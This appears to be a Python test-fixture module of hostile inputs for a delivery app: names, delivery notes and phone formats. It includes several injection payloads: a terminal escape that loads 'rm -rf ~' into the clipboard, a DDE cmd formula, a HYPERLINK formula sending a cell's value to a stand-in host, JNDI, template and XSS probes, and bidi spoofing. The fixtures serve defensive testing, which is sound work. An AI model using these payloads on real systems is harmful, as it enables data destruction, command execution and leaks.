"""What people really type: markup, escape sequences, formulas, scripts, and phones in every writing."""

HOSTILE_NAMES: tuple[str, ...] = (
    "[/b] [@click=app.quit]x[/]",
    "\x1b]0;pwned\x07\x1b[31mRed",
    "\u202egnp.eciovni\u202c Kumar",
    "Ravi\nDELIVERED\r\nShankar",
    "=cmd|' /C calc'!A0",
    "Sunita \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f95b",
    "{{7*7}} ${jndi:x} %s",
    "లక్ష్మీ [bold]రావు[/bold]",
    'O\'Brien \\ "Patel" <script>alert(1)</script>',
    "  ",
)

HOSTILE_NOTES: tuple[str, ...] = (
    "[bold red]URGENT[/] [link=file:///etc/passwd]gate code[/link] [/]",
    "\x1b[2J\x1b[1;1H\x1b]52;c;cm0gLXJmIH4=\x07 leave with guard \x9b31m",
    "flat \u202e42\u202c, \u200fgate\u2066 B\u2069",
    "line one\nline two\r\n\ttab\vfeed",
    '=HYPERLINK("http://demo.invalid/?"&A1,"bill")',
    "ದಯವಿಟ್ಟು ಬಾಗಿಲ ಬಳಿ ಇಡಿ • कृपया घंटी न बजाएँ • తలుపు దగ్గర పెట్టండి 🥚🍞🥛",
    "bell\x07 null\x00 end",
    "+91 98765 43210 -- call, @all, -2+3",
    "x" * 10_000,
    "మెట్లు ఎక్కి కుడి వైపు తలుపు. " * 120,
)

UNREACHABLE_PHONES: tuple[str, ...] = ("080-2345 6789", "12345", "", "not given", "+1 202 555 0147")


def write_phone(mobile: str, number: int) -> str:
    """A ten-digit mobile number in one of the ways in which people write it."""
    match number % 7:
        case 1:
            return f"+91 {mobile[:5]} {mobile[5:]}"
        case 3:
            return f"0{mobile[:5]}-{mobile[5:]}"
        case 4:
            return f"+91{mobile}"
        case 6:
            return f"91-{mobile}"
        case _:
            return mobile
